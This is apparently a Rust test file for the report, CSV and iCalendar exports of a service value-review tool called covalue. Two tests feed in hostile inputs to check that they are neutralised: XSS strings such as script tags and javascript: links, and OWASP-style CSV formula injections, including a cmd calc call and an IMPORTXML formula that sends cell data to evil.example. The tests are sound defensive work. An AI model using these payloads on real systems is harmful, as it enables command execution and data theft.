//! The Markdown report and the CSV export as a reader and a spreadsheet see them: the order of
//! the report, what a self-assessment leaves out, notes, links, overdue actions, per-side
//! verdicts, the checked-in examples, and text from a session that must stay text.

use covalue::domain::{
    Agreement, AgreementStatus, Cost, Date, Mode, Outcome, Rating, Ratings, Resolution, Session,
    Step, Timestamp, summarize,
};
use covalue::report::export::{csv, markdown};
use covalue::store::{TEMPLATES, Template};
use pulldown_cmark::{Event, Parser, Tag, TagEnd};
use std::path::Path;

/// The day the examples are written "as of", and the sessions' own date.
const EXAMPLE_DAY: i64 = 1_795_132_800; // 2026-11-20T00:00:00Z

fn today() -> Date {
    Timestamp::from_unix(EXAMPLE_DAY).date()
}

fn template(name: &str) -> Session {
    Template::find(name)
        .unwrap()
        .instantiate("exmp0001", Timestamp::from_unix(EXAMPLE_DAY))
}

fn report(session: &Session) -> String {
    markdown(session, &summarize(session), today())
}

fn r(n: u8) -> Option<Rating> {
    Rating::new(n)
}

fn headings(md: &str) -> Vec<String> {
    md.lines()
        .filter(|l| l.starts_with('#'))
        .map(str::to_string)
        .collect()
}

#[test]
fn the_report_reads_top_down_with_no_section_twice() {
    let md = report(&template("service-desk"));
    let lines: Vec<&str> = md.lines().collect();
    assert!(lines[0].starts_with("# Service desk value review"));
    // The verdict in one sentence comes first, before the facts.
    assert!(
        lines[2]
            .starts_with("**Managed IT service desk** delivers good value (value index 60 / 100)"),
        "{}",
        lines[2]
    );
    let order = [
        "## VOCR check",
        "## Closing answers",
        "## Open actions (as of 2026-11-20)",
        "## Discuss next",
        "## Scores",
        "## Context",
        "## Benefits",
        "## Usefulness",
        "## Importance",
        "## Outcomes",
        "## Costs",
        "## Risks",
        "## Agreements",
        "## Importance and performance",
        "## Completeness",
    ];
    let found = headings(&md);
    let at: Vec<usize> = order
        .iter()
        .map(|h| {
            found
                .iter()
                .position(|f| f == h)
                .unwrap_or_else(|| panic!("{h} missing: {found:?}"))
        })
        .collect();
    assert!(at.windows(2).all(|w| w[0] < w[1]), "{found:?}");
    let mut unique = found.clone();
    unique.sort();
    unique.dedup();
    assert_eq!(unique.len(), found.len(), "a section twice: {found:?}");
    assert!(md.contains("VOCR asks three questions"));
    // Dates as dates, not timestamps.
    assert!(!md.contains("T00:00:00Z") && md.contains("**Date:** 2026-11-20"));
    // Every field a user entered, with its label.
    for label in [
        "Status: experienced",
        "Measure: downtime per user −30 %",
        "Goal served: Keep the sales offices working",
        "How much it matters: 5 (very high)",
        "Area: Compliance",
        "Amount: €18 per user a month",
        "Likelihood: 4 · Impact: 3 · Exposure: 12",
    ] {
        assert!(md.contains(label), "{label} missing");
    }
    // The heat maps as counts by exposure band, not a grid of dots.
    assert!(md.contains("| Mitigated | 0 | 2 | 0 | 22 |"), "{md}");
    assert!(!md.contains("| · |"));
}

#[test]
fn a_self_assessment_report_does_not_talk_about_two_sides() {
    let mut s = Session::new(
        "self0001",
        "Payroll, alone",
        Timestamp::from_unix(EXAMPLE_DAY),
    );
    s.service = "Payroll".into();
    s.mode = Mode::ConsumerSelfAssessment;
    s.outcomes = vec![Outcome {
        text: "Payslips on time".into(),
        rating: Ratings::new(None, r(4)),
        ..Default::default()
    }]
    .into();
    let md = report(&s);
    assert!(!md.contains("Alignment"), "{md}");
    assert!(
        !md.contains("Discuss next") && !md.contains("disagree"),
        "{md}"
    );
    assert!(
        !md.contains("Provider |") && !md.contains("| Gap"),
        "no column for a side that does not rate: {md}"
    );
    assert!(md.contains("| Item | Details | Consumer |"), "{md}");
    assert!(
        md.contains("| Payslips on time | How much it matters: not set | 4 |"),
        "{md}"
    );
    assert!(md.contains("in the consumer's own view"));
    // No agreement at all is not "every agreed action is done or dropped".
    assert!(!md.contains("every agreed action"), "{md}");
    assert!(md.contains("No actions were agreed."));
}

fn linked_session() -> Session {
    let mut s = Session::new("link0001", "Q4 review", Timestamp::from_unix(EXAMPLE_DAY));
    s.service = "Payroll".into();
    s.costs = vec![Cost {
        text: "Licence fee".into(),
        rating: Ratings {
            revealed: true,
            ..Ratings::new(r(5), r(1))
        },
        ..Default::default()
    }]
    .into();
    s.set_note(
        Step::Costs,
        "Licence fee",
        "Finance compares it with the old in-house cost",
    );
    s.agreements = vec![
        Agreement {
            text: "Benchmark the fee".into(),
            person: "Ana".into(),
            due: Date::new(2026, 11, 1),
            ..Default::default()
        },
        Agreement {
            text: "Send last year's invoices".into(),
            status: AgreementStatus::Done,
            ..Default::default()
        },
    ];
    s.resolutions.push(Resolution::by_text(
        "Benchmark the fee",
        Step::Costs,
        "Licence fee",
    ));
    // As a loaded session has them: ids on items, and notes and resolutions naming them.
    s.ensure_ids();
    s.link_records();
    s
}

#[test]
fn two_items_with_the_same_words_show_their_own_note_and_action_in_the_report() {
    let mut s = linked_session();
    let mut twin = s.costs[0].clone();
    twin.id = String::new();
    s.costs.push(twin);
    s.ensure_ids();
    let twin = s.costs[1].id.clone();
    s.set_note_on(Step::Costs, &twin, "The second site pays it too");
    let md = report(&s);
    let rows: Vec<&str> = md
        .lines()
        .filter(|l| l.starts_with("| Licence fee | Kind: money"))
        .collect();
    assert_eq!(rows.len(), 2, "{md}");
    assert!(
        rows[0].ends_with(
            "Finance compares it with the old in-house cost<br>→ action: Benchmark the fee (open) |"
        ),
        "{md}"
    );
    assert!(rows[1].ends_with("The second site pays it too |"), "{md}");
}

/// A step's table has a Discussion column when any of its items has a note or an action
/// that resolves it, either one alone (found by a mutation run: no test had one without the
/// other), and none when nothing was said.
#[test]
fn a_note_alone_or_an_action_alone_gives_the_step_its_discussion_column() {
    let header = "| Item | Details | Provider | Consumer | Gap | Discussion |";
    let noted = {
        let mut s = linked_session();
        s.resolutions.clear();
        s
    };
    let acted = {
        let mut s = linked_session();
        s.notes.clear();
        s
    };
    for (what, s) in [("a note", noted), ("an action", acted)] {
        let md = report(&s);
        assert!(md.contains(header), "{what}: {md}");
    }
    let mut quiet = linked_session();
    quiet.resolutions.clear();
    quiet.notes.clear();
    let md = report(&quiet);
    assert!(
        !md.contains("| Details | Provider | Consumer | Gap | Discussion"),
        "{md}"
    );
    assert!(
        md.contains("| Item | Details | Provider | Consumer | Gap |"),
        "{md}"
    );
}

#[test]
fn notes_links_overdue_actions_and_split_verdicts_are_in_the_report() {
    let md = report(&linked_session());
    // Discuss-next carries the note and the action that resolves the item.
    assert!(
        md.contains("| Costs | Licence fee | 5 | 1 | 4 | Finance compares it with the old in-house cost<br>→ action: Benchmark the fee (open) |"),
        "{md}"
    );
    // The same beside the item in the Costs table.
    assert!(
        md.contains("| Licence fee | Kind: money | 5 | 1 | **4** | Finance compares"),
        "{md}"
    );
    // And the other way: the action names the item it resolves, and is overdue.
    assert!(
        md.contains("- [ ] Benchmark the fee — Ana (both sides), due 2026-11-01 — **overdue**; resolves Costs item “Licence fee”"),
        "{md}"
    );
    assert!(md.contains("1 more is done or dropped"));
    assert!(
        md.contains("- [x] done — Send last year's invoices"),
        "{md}"
    );
    // Mean 50 is "at risk"; the two sides' own verdicts differ.
    assert!(
        md.contains(
            "- Costs acceptable: **at risk** (score 50) — consumer: fails, provider: holds"
        ),
        "{md}"
    );
    assert!(md.contains("- Outcomes achieved: **no ratings yet**\n"));
}

/// The structure of a Markdown document: its block and inline markup, with the text left out.
fn structure(md: &str) -> Vec<String> {
    Parser::new_ext(
        md,
        pulldown_cmark::Options::ENABLE_TABLES | pulldown_cmark::Options::ENABLE_TASKLISTS,
    )
    .filter_map(|event| match event {
        // Line breaks inside a paragraph are the text's own; they change no structure.
        Event::Text(_) | Event::SoftBreak | Event::HardBreak => None,
        Event::Start(Tag::Link { dest_url, .. }) => Some(format!("link {dest_url}")),
        Event::Start(tag) => Some(format!("{tag:?}")),
        Event::End(TagEnd::TableCell) => Some("end cell".into()),
        Event::End(tag) => Some(format!("end {tag:?}")),
        other => Some(format!("{other:?}")),
    })
    .collect()
}

fn fill(session: &mut Session, text: &str) {
    session.title = text.into();
    session.service = text.into();
    session.description = text.into();
    for c in &mut session.context {
        c.text = text.into();
    }
    for b in &mut session.benefits {
        b.text = text.into();
        b.benefit_mut().measure = text.into();
    }
    for u in &mut session.usefulness {
        u.text = text.into();
        u.usefulness_mut().goal = text.into();
    }
    for c in &mut session.costs {
        c.text = text.into();
        c.cost_mut().set_amount(text);
    }
    for r in &mut session.risks {
        r.text = text.into();
    }
    for a in &mut session.agreements {
        a.text = text.into();
        a.person = text.into();
    }
    for p in &mut session.participants {
        p.name = text.into();
    }
    session.closing.achieves = text.into();
    session.closing.costs = text.into();
    session.closing.risks = text.into();
    session.closing.perception = text.into();
    let items: Vec<(Step, String)> = session
        .rated_items()
        .map(|i| (i.dimension.step(), i.text.to_string()))
        .collect();
    for (step, item) in items {
        session.set_note(step, &item, text);
    }
}

#[test]
fn session_text_never_changes_the_structure_of_the_report() {
    let payloads = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[click me](javascript:alert(1))",
        "<javascript:alert(1)>",
        "![x](http://evil.example/x.png)",
        "line one\n# Injected heading\n| a | b |\n|---|---|\n| c | d |",
        "ok\n\n- injected list\n> quote\n```\ncode\n```",
        "   indented\n    code block\n===\n---",
        "1. ordered\n2) ordered",
        // Markers that act only at the start of a line: text after covalue's own words
        // (`Measure: `) and in table cells is no longer escaped for them.
        "1) first",
        "10. tenth",
        "- dash",
        "+ plus",
        "> quote",
        "# hash",
        "2.5 hours\n3. three",
        "**bold** _em_ `code` ~~strike~~ &lt;b&gt; &#60;",
        "a | b | c",
        "trailing backslash \\",
        "http://www.example.com/ and www.example.com",
    ];
    let mut benign = template("service-desk");
    fill(&mut benign, "plain words");
    let expected = structure(&report(&benign));
    for payload in payloads {
        let mut hostile = template("service-desk");
        fill(&mut hostile, payload);
        let md = report(&hostile);
        let found = structure(&md);
        if let Some(i) =
            (0..expected.len().max(found.len())).find(|i| expected.get(*i) != found.get(*i))
        {
            panic!(
                "{payload:?} changed the report at event {i}: expected {:?}, found {:?}\n{md}",
                expected.get(i),
                found.get(i)
            );
        }
        // Shown as text: the only HTML in the report is covalue's own line break.
        assert!(
            found
                .iter()
                .filter(|e| e.contains("Html"))
                .all(|e| e.contains("<br>")),
            "{payload:?}"
        );
    }
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
    // Known payloads from OWASP's CSV injection page and its usual variants.
    let payloads = [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "  =HYPERLINK(\"http://evil.example\",\"click\")",
        "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", A1), \"//a\")",
        "＝1+1",
    ];
    let mut s = Session::new("csv00001", "CSV", Timestamp::from_unix(EXAMPLE_DAY));
    s.outcomes = payloads
        .iter()
        .map(|p| Outcome {
            text: p.to_string(),
            rating: Ratings::new(r(3), None),
            ..Default::default()
        })
        .collect();
    s.outcomes.push(Outcome {
        text: "Plain, with a comma".into(),
        ..Default::default()
    });
    let out = csv(&s, covalue::domain::Viewer::Everything);
    let mut reader = out.lines().skip(1);
    let mut cells = Vec::new();
    // A small CSV reader: quoted fields may hold commas, quotes and line breaks.
    let text = out.split_once('\n').unwrap().1;
    let mut field = String::new();
    let (mut quoted, mut chars) = (false, text.chars().peekable());
    let mut row = Vec::new();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (_, '"') => quoted = !quoted,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\n') => {
                row.push(std::mem::take(&mut field));
                cells.push(std::mem::take(&mut row));
            }
            (_, c) => field.push(c),
        }
    }
    assert!(reader.next().is_some());
    assert_eq!(cells.len(), payloads.len() + 1, "{out}");
    for (row, payload) in cells.iter().zip(payloads) {
        // A carriage return never reaches the file (it is a control character); the rest gain
        // the apostrophe.
        let expected = if payload.contains('\r') {
            payload.replace('\r', "\u{FFFD}")
        } else {
            format!("'{payload}")
        };
        assert_eq!(row[1], expected, "{out}");
        assert!(
            !row[1]
                .trim_start()
                .starts_with(['=', '+', '-', '@', '\t', '\r', '＝']),
            "{row:?}"
        );
        assert_eq!(row[3], "3");
    }
    assert_eq!(cells[payloads.len()][1], "Plain, with a comma");
}

fn example_path(name: &str) -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("docs/examples")
        .join(format!("{name}.md"))
}

/// `UPDATE_EXAMPLES=1 cargo test --test report` rewrites docs/examples after a deliberate change.
#[test]
fn the_checked_in_example_reports_are_current() {
    for t in TEMPLATES {
        let md = report(&template(t.name));
        let path = example_path(t.name);
        if std::env::var_os("UPDATE_EXAMPLES").is_some() {
            std::fs::write(&path, &md).unwrap();
        }
        let on_disk = std::fs::read_to_string(&path).unwrap_or_default();
        assert!(
            on_disk == md,
            "{} is out of date; run UPDATE_EXAMPLES=1 cargo test --test report",
            path.display()
        );
    }
}

#[test]
fn notes_and_links_are_saved_and_files_without_them_still_load() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("linked.ron");
    let session = linked_session();
    covalue::store::save(&path, &session).unwrap();
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(
        text.contains("notes:") && text.contains("resolutions:"),
        "{text}"
    );
    assert_eq!(covalue::store::load(&path).unwrap(), session);
    // A file written before notes existed loads with none, and is saved without the fields.
    let old = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/formats/format-1.ron");
    let loaded = covalue::store::load(&old).unwrap();
    assert!(loaded.notes.is_empty() && loaded.resolutions.is_empty());
    assert!(!covalue::store::to_ron(&loaded).contains("notes:"));
}

#[test]
fn the_verdict_sentence_names_the_band_the_weak_conditions_and_the_agreement() {
    use covalue::report::export::verdict_sentence;
    let sentence = |p: u8, c: u8| {
        let mut s = Session::new("band0001", "Band", Timestamp::from_unix(EXAMPLE_DAY));
        s.service = "Payroll".into();
        s.outcomes = vec![Outcome {
            text: "Paid on time".into(),
            rating: Ratings::new(r(p), r(c)),
            ..Default::default()
        }]
        .into();
        verdict_sentence(&s, &summarize(&s))
    };
    assert_eq!(
        sentence(5, 5),
        "**Payroll** delivers high value (value index 100 / 100); the two sides agree closely (alignment 100 / 100)."
    );
    assert!(sentence(4, 4).starts_with("**Payroll** delivers high value (value index 75 / 100);"));
    assert_eq!(
        sentence(4, 3),
        "**Payroll** delivers good value (value index 63 / 100); the two sides broadly agree (alignment 75 / 100)."
    );
    assert_eq!(
        sentence(5, 1),
        "**Payroll** delivers some value, with reservations (value index 50 / 100); at risk: outcomes achieved; the two sides see it differently (alignment 0 / 100)."
    );
    assert_eq!(
        sentence(2, 1),
        "**Payroll** does not yet deliver the value it should (value index 13 / 100); failing: outcomes achieved; the two sides broadly agree (alignment 75 / 100)."
    );
    let empty = Session::new("none0001", "None", Timestamp::from_unix(EXAMPLE_DAY));
    assert_eq!(
        verdict_sentence(&empty, &summarize(&empty)),
        "The service cannot be judged yet: nothing that the value index needs has been rated."
    );
}

#[test]
fn the_summary_text_shows_the_heat_maps_only_when_there_are_risks() {
    use covalue::report::summary::text;
    let with = template("service-desk");
    let shown = text(&with, &summarize(&with));
    assert!(
        shown.contains("likelihood   mitigated (impact 1-5)"),
        "{shown}"
    );
    assert!(shown.contains("Risk exposure  mitigated 22 · introduced 17"));
    assert!(
        !shown.contains("still unrated"),
        "everything is rated: {shown}"
    );
    let mut without = Session::new("norisk01", "No risks", Timestamp::from_unix(EXAMPLE_DAY));
    let shown = text(&without, &summarize(&without));
    assert!(!shown.contains("likelihood   mitigated"), "{shown}");
    assert!(
        !shown.contains("Importance × performance"),
        "nothing to place: {shown}"
    );
    let placed = text(&with, &summarize(&with));
    assert!(
        placed.contains("Importance × performance (usefulness and outcomes)\n  concentrate here 2 · keep it up 2 · low priority 1 · possible overkill 1\n"),
        "{placed}"
    );
    without.outcomes.push(Outcome {
        text: "Unrated".into(),
        ..Default::default()
    });
    let shown = text(&without, &summarize(&without));
    assert!(
        shown.contains("              1 item still unrated\n"),
        "{shown}"
    );
    without.costs.push(Cost {
        text: "Half rated".into(),
        rating: Ratings::new(r(3), None),
        ..Default::default()
    });
    let shown = text(&without, &summarize(&without));
    assert!(shown.contains("2 items still unrated"), "{shown}");
}

#[test]
fn the_summary_lists_ten_items_to_discuss_and_counts_the_rest() {
    use covalue::report::summary::text;
    let mut s = Session::new("many0001", "Many gaps", Timestamp::from_unix(EXAMPLE_DAY));
    let gap = |i: usize| Outcome {
        text: format!("Gap number {i}"),
        rating: Ratings::new(r(5), r(1)),
        ..Default::default()
    };
    s.outcomes = (1..=10).map(gap).collect();
    let shown = text(&s, &summarize(&s));
    assert!(
        shown.contains("Gap number 10") && !shown.contains("more\n"),
        "{shown}"
    );
    s.outcomes.extend((11..=12).map(gap));
    let shown = text(&s, &summarize(&s));
    assert!(shown.contains("  … and 2 more\n"), "{shown}");
    assert!(!shown.contains("Gap number 11"));
}

#[test]
fn the_summary_says_what_the_value_index_left_out() {
    use covalue::report::summary::text;
    let full = template("cloud-hosting");
    let shown = text(&full, &summarize(&full));
    assert!(!shown.contains("left out"), "{shown}");
    let mut s = Session::new("part0001", "Part", Timestamp::from_unix(EXAMPLE_DAY));
    let shown = text(&s, &summarize(&s));
    assert!(
        shown.contains("Value index    – / 100  (nothing rated yet)\n"),
        "{shown}"
    );
    assert!(!shown.contains("left out"), "{shown}");
    s.outcomes.push(Outcome {
        text: "Rated".into(),
        rating: Ratings::new(r(4), r(4)),
        ..Default::default()
    });
    let shown = text(&s, &summarize(&s));
    assert!(
        shown.contains("Value index   75 / 100  from outcomes\n             left out for lack of ratings: perceived value, costs, risks\n"),
        "{shown}"
    );
}

/// An outcome the consumer's people split on (5 and 1, mean 3) and the provider rates 5: a
/// gap of 2 and a consumer split of 4, two reasons for one item.
fn split_and_gap() -> Session {
    let mut s = Session::new("twice001", "Twice", Timestamp::from_unix(EXAMPLE_DAY));
    s.blind = false;
    let mut rating = Ratings::new(r(5), None);
    rating.set_by(covalue::domain::Side::Consumer, "Priya", r(5));
    rating.set_by(covalue::domain::Side::Consumer, "Ola", r(1));
    s.outcomes = vec![
        Outcome {
            text: "Both reasons".into(),
            rating,
            ..Default::default()
        },
        Outcome {
            text: "Thirds".into(),
            rating: {
                let mut t = Ratings::new(r(5), None);
                for (name, n) in [("A", 3), ("B", 2), ("C", 3)] {
                    t.set_by(covalue::domain::Side::Consumer, name, r(n));
                }
                t
            },
            ..Default::default()
        },
    ]
    .into();
    s
}

#[test]
fn discuss_next_lists_an_item_once_with_every_reason() {
    use covalue::report::summary::text;
    let s = split_and_gap();
    let summary = summarize(&s);
    assert_eq!(summary.discuss.len(), 3, "two reasons and one");
    let shown = text(&s, &summary);
    let rows: Vec<&str> = shown
        .lines()
        .filter(|l| l.contains("Both reasons"))
        .collect();
    assert_eq!(rows.len(), 1, "{shown}");
    assert!(rows[0].ends_with("consumer split 4 · gap 2"), "{shown}");
    let md = report(&s);
    let rows: Vec<&str> = md
        .lines()
        .filter(|l| l.starts_with("| Outcomes | Both reasons"))
        .collect();
    assert_eq!(rows.len(), 1, "{md}");
    assert!(rows[0].contains("consumer split 4 · gap 2"), "{md}");
}

#[test]
fn a_column_of_ratings_shows_one_format() {
    use covalue::report::summary::text;
    let s = split_and_gap();
    let shown = text(&s, &summarize(&s));
    // The thirds item has a consumer mean of 2.7: the other row's 3 shows as 3.0 beside it.
    assert!(shown.contains("P5.0 C3.0"), "{shown}");
    assert!(shown.contains("P5.0 C2.7"), "{shown}");
    let md = report(&s);
    assert!(
        md.contains("| Outcomes | Both reasons | 5.0 | 3.0 |"),
        "{md}"
    );
    assert!(
        md.contains("| Both reasons | How much it matters: not set | 5.0 | 3.0 | **2.0** |"),
        "{md}"
    );
    assert!(
        md.contains("| Thirds | How much it matters: not set | 5.0 | 2.7 | **2.3** |"),
        "{md}"
    );
}

// ---- Follow-through: the agreements as iCalendar to-dos and as a tracker's CSV ----

/// The linked session with agreements whose text needs escaping, folding and neutralising.
fn with_awkward_agreements() -> Session {
    let mut s = linked_session();
    s.agreements.push(Agreement {
        text: "Call Bob; then, fix \"it\" \\ now\nand report back".into(),
        due: Date::new(2026, 12, 24),
        ..Default::default()
    });
    s.agreements.push(Agreement {
        text: format!("Écrire à l'équipe {}", "très ".repeat(20)),
        person: "Zoë".into(),
        ..Default::default()
    });
    s.ensure_ids();
    s
}

#[test]
fn the_calendar_is_read_by_an_icalendar_parser_with_every_open_agreement_a_todo() {
    use icalendar::{Calendar, Component, DatePerhapsTime};
    let s = with_awkward_agreements();
    let ics = covalue::report::ics::calendar(&s, None);
    // RFC 5545: CRLF after every line, none longer than 75 octets.
    assert!(ics.ends_with("END:VCALENDAR\r\n"), "{ics}");
    assert!(!ics.replace("\r\n", "").contains('\n'), "{ics}");
    for line in ics.split_terminator("\r\n") {
        assert!(line.len() <= 75, "{} octets: {line:?}", line.len());
    }
    let calendar: Calendar = ics.parse().expect("a maintained parser reads it");
    let todos: Vec<_> = calendar.todos().collect();
    // Three open agreements; the done one is not a to-do.
    let open: Vec<&Agreement> = s.agreements.iter().filter(|a| a.is_open()).collect();
    assert_eq!(todos.len(), open.len());
    for (todo, agreement) in todos.iter().zip(&open) {
        // Text comes back as it was written: escaping and folding undone by the parser.
        assert_eq!(todo.get_summary(), Some(agreement.text.trim()));
        assert!(todo.get_uid().is_some_and(|u| u.ends_with("@covalue")));
        let due = todo.get_due().map(|d| match d {
            DatePerhapsTime::Date(d) => d.to_string(),
            other => panic!("a date-time due: {other:?}"),
        });
        assert_eq!(due, agreement.due.map(|d| d.to_string()));
    }
    let contact = todos[0].multi_properties().get("CONTACT").unwrap();
    assert_eq!(contact[0].value(), "Ana (both sides)");
    let description = todos[0].get_description().unwrap();
    assert!(
        description.contains("Resolves the Costs item \"Licence fee\"."),
        "{description}"
    );
    assert!(
        description.contains("\" for the service Payroll ("),
        "{description}"
    );
    assert_eq!(calendar.events().count(), 0, "no cadence, no review event");
    // Found by a mutation run: without a service, the description names none.
    let mut unnamed = s.clone();
    unnamed.service = " ".into();
    let ics = covalue::report::ics::calendar(&unnamed, None);
    let calendar: Calendar = ics.parse().unwrap();
    let description = calendar.todos().next().unwrap().get_description().unwrap();
    assert!(!description.contains("for the service"), "{description}");

    // With a cadence, the next review is an all-day event.
    let next = Date::new(2027, 2, 20).map(|day| covalue::report::ics::NextReview {
        day,
        service: s.service.clone(),
        after: s.title.clone(),
        after_created: s.created,
        changed: s.updated,
    });
    let ics = covalue::report::ics::calendar(&s, next.as_ref());
    let calendar: Calendar = ics.parse().unwrap();
    let events: Vec<_> = calendar.events().collect();
    assert_eq!(events.len(), 1, "{ics}");
    assert_eq!(events[0].get_summary(), Some("Value review: Payroll"));
    assert!(ics.contains("DTSTART;VALUE=DATE:20270220\r\n"), "{ics}");
}

#[test]
fn a_second_export_gives_the_same_uids() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("linked.ron");
    covalue::store::save(&path, &with_awkward_agreements()).unwrap();
    let export = || {
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_covalue"))
            .args(["export", path.to_str().unwrap(), "--format", "ics"])
            .env("COVALUE_DATA_DIR", dir.path())
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8(out.stdout).unwrap()
    };
    let uids = |ics: &str| -> Vec<String> {
        ics.lines()
            .filter_map(|l| l.strip_prefix("UID:"))
            .map(|u| u.trim_end().to_string())
            .collect()
    };
    let (first, second) = (export(), export());
    assert_eq!(uids(&first).len(), 3, "{first}");
    assert_eq!(uids(&first), uids(&second));
    // The whole file is the same: DTSTAMP comes from the session, not the clock.
    assert_eq!(first, second);
    let mut distinct = uids(&first);
    distinct.dedup();
    assert_eq!(distinct.len(), 3);
}

#[test]
fn agreements_csv_has_a_trackers_header_and_one_row_per_agreement() {
    let mut s = with_awkward_agreements();
    s.agreements[1].text = "=HYPERLINK(\"http://x\")".into();
    let csv = covalue::report::agreements::csv(&s);
    let lines: Vec<&str> = csv.lines().collect();
    assert_eq!(
        lines[0],
        "title,description,due date,assignee,status,service,resolves"
    );
    assert_eq!(
        lines[1],
        "Benchmark the fee,\"Agreed in the covalue session \"\"Q4 review\"\" (2026-11-20); owner: both sides.\",2026-11-01,Ana,open,Payroll,Costs: Licence fee"
    );
    // A done one is listed with its status; a formula is shown as text.
    assert!(
        lines[2].starts_with("\"'=HYPERLINK(\"\"http://x\"\")\",")
            && lines[2].contains(",both sides,done,Payroll,"),
        "{}",
        lines[2]
    );
    // A line break inside a title stays inside its quoted cell.
    assert!(
        csv.contains("\"Call Bob; then, fix \"\"it\"\" \\ now\nand report back\""),
        "{csv}"
    );
    assert!(csv.contains(",Zoë,open,Payroll,\n"), "{csv}");
}

/// Found by a mutation run: no test read the HTML report's list of who took part, so dropping
/// it (or showing it only when nobody took part) went unnoticed.
#[test]
fn the_html_report_names_who_took_part_and_says_nothing_when_nobody_did() {
    let now = Timestamp::from_unix(EXAMPLE_DAY);
    let mut example = Template::find("secure-backup")
        .unwrap()
        .example("exmp0002", now);
    let html = covalue::report::html::session::report(&example, &summarize(&example), today());
    assert!(
        html.contains(
            "Participants: Marta Silva (facilitator), Ken Ito (provider), Rosa Delgado (consumer)"
        ),
        "{html}"
    );
    example.participants.clear();
    let html = covalue::report::html::session::report(&example, &summarize(&example), today());
    assert!(!html.contains("Participants:"), "{html}");
}
